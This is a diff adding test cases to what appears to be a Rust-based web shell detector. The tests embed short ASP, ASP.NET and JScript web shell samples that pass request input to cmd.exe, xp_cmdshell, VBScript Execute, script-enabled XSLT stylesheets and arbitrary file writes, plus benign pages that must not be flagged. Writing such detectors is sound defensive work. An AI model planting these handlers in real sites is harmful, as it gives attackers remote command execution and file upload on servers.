@@ -1767,6 +1767,73 @@ fn stop_29_new_kinds() {
     // not a code-behind that starts its own tool
     let tool = "using System.Diagnostics;\npublic partial class Report : System.Web.UI.Page {\n protected void Page_Load(object s, System.EventArgs e) {\n  Process.Start(Server.MapPath(\"~/bin/render.exe\"), \"--all\");\n  Response.Write(Server.HtmlEncode(Request[\"q\"]));\n }\n}\n";
     assert!(hits(tool).is_empty(), "{:?}", hits(tool));
+    // the request object kept whole in a name of its own
+    has(
+        "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nusing System.Diagnostics; using System.Web;\npublic class H : IHttpHandler {\n public void ProcessRequest(HttpContext context) {\n  HttpRequest req = context.Request;\n  string x = req.Form[\"c\"];\n  Process.Start(\"cmd.exe\", \"/c \" + x);\n }\n public bool IsReusable { get { return false; } }\n}\n",
+        "EXRAY_Request_Process_Flow",
+    );
+    // (a comment that ends on the word is no request)
+    let said = "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nusing System.Diagnostics; using System.Web;\npublic class H : IHttpHandler {\n public void ProcessRequest(HttpContext context) {\n  string x = Settings.Tool; // run for each request\n  Process.Start(\"tool.exe\", x);\n  context.Response.Write(context.Request.QueryString[\"q\"] != null);\n }\n public bool IsReusable { get { return false; } }\n}\n";
+    assert!(
+        !hits(said).contains("EXRAY_Request_Process_Flow"),
+        "{:?}",
+        hits(said)
+    );
+    // stop 29's second read: the raw body as the stylesheet, an XSLTemplate's stylesheet, a
+    // reader kept in a name, settings given by name
+    has(
+        "<%\nSet xml = Server.CreateObject(\"MSXML2.DOMDocument\")\nxml.loadXML \"<r/>\"\nSet xsl = Server.CreateObject(\"MSXML2.DOMDocument\")\nxsl.load Request\nResponse.Write xml.transformNode(xsl.documentElement)\n%>\n",
+        "EXRAY_XSLT_Request_Stylesheet",
+    );
+    has(
+        "<%\nSet sty = Server.CreateObject(\"MSXML2.FreeThreadedDOMDocument\")\nsty.loadXML Request.Form(\"s\")\nSet tpl = Server.CreateObject(\"MSXML2.XSLTemplate\")\nSet tpl.stylesheet = sty\nSet p = tpl.createProcessor()\np.input = Server.CreateObject(\"MSXML2.DOMDocument\")\np.transform\nResponse.Write p.output\n%>\n",
+        "EXRAY_XSLT_Request_Stylesheet",
+    );
+    has(
+        "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nstatic readonly XslCompiledTransform T = new XslCompiledTransform();\nvoid Page_Load(object s, EventArgs e) {\n var r = XmlReader.Create(Request.InputStream);\n T.Load(r, new XsltSettings(enableDocumentFunction: false, enableScript: true), null);\n T.Transform(XmlReader.Create(new StringReader(\"<r/>\")), null, Response.Output);\n}\n</script>\n",
+        "EXRAY_XSLT_Request_Stylesheet",
+    );
+    // a report page that picks its own stylesheet by a name from the request
+    let report = "<%\nview = Request(\"view\")\nSet xml = Server.CreateObject(\"MSXML2.DOMDocument\")\nxml.load Server.MapPath(\"data.xml\")\nSet xsl = Server.CreateObject(\"MSXML2.DOMDocument\")\np = XSL_DIR & \"report-\" & view & \".xsl\"\nxsl.load p\nResponse.Write xml.transformNode(xsl)\n%>\n";
+    assert!(
+        !hits(report).contains("EXRAY_XSLT_Request_Stylesheet"),
+        "{:?}",
+        hits(report)
+    );
+    // xp_cmdshell continued on the next line, and a command's text set in its initializer
+    has(
+        "<%\nSet cn = Server.CreateObject(\"ADODB.Connection\")\ncn.Open \"Provider=SQLOLEDB;Data Source=.;Integrated Security=SSPI\"\nc = Request(\"c\")\nsql = \"exec master.dbo.xp_cmdshell \"\nsql = sql & \"'\" & c & \"'\"\nSet rs = cn.Execute(sql)\n%>\n",
+        "EXRAY_SQL_Shell_Request_Flow",
+    );
+    has(
+        "<%@ Page Language=\"C#\" %>\n<% using (var cn = new SqlConnection(cs)) { cn.Open();\n var k = new SqlCommand { Connection = cn, CommandText = \"exec xp_cmdshell '\" + Request[\"c\"] + \"'\" };\n k.ExecuteNonQuery(); } %>\n",
+        "EXRAY_SQL_Shell_Request_Flow",
+    );
+    // a type compared with Function is no alias; a Razor `new @X` is markup and an expression
+    let typed = "<%@ Language=\"JScript\" %>\n<%\nvar v = Request.Form(\"v\");\nvar isFn = v.constructor === Function;\nResponse.Write(isFn);\n%>\n";
+    assert!(
+        !hits(typed).contains("EXRAY_JScript_Eval_Alias"),
+        "{:?}",
+        hits(typed)
+    );
+    let razor =
+        "@using System.Linq\n@{ var p = Model.Current; }\n<h3>Start new @Process.Title</h3>\n";
+    assert!(hits(razor).is_empty(), "{:?}", hits(razor));
+    // the body kept in a name, then copied into a file the query names
+    has(
+        "<%@ WebHandler Language=\"C#\" Class=\"Up\" %>\nusing System.Web; using System.IO;\npublic class Up : IHttpHandler {\n public void ProcessRequest(HttpContext c) {\n  Stream body = c.Request.GetBufferlessInputStream();\n  using (var fs = File.Create(c.Request.QueryString[\"p\"])) { body.CopyTo(fs); }\n }\n public bool IsReusable { get { return false; } }\n}\n",
+        "EXRAY_File_Dropper_Flow",
+    );
+    // a function named in the page's code page
+    has(
+        "<%\nFunction 执行(代码)\n Execute 代码\nEnd Function\n执行 Request(\"x\")\n%>\n",
+        "EXRAY_Eval_Request_Flow",
+    );
+    // a code-behind on the application's own base page
+    has(
+        "using System.Diagnostics;\npublic partial class Tools : BasePage {\n protected void Page_Load(object s, System.EventArgs e) {\n  Process.Start(\"cmd.exe\", \"/c \" + Request.QueryString[\"c\"]);\n }\n}\n",
+        "EXRAY_Request_Process_Flow",
+    );
     // the raw body copied into a file under the site's root that the query names
     has(
         "<%@ WebHandler Language=\"C#\" Class=\"Up\" %>\nusing System.Web;\nusing System.IO;\npublic class Up : IHttpHandler {\n public void ProcessRequest(HttpContext c) {\n  string name = c.Request.QueryString[\"name\"];\n  using (FileStream fs = new FileStream(c.Server.MapPath(\"~/\" + name), FileMode.Create)) {\n   c.Request.InputStream.CopyTo(fs);\n  }\n }\n public bool IsReusable { get { return false; } }\n}\n",
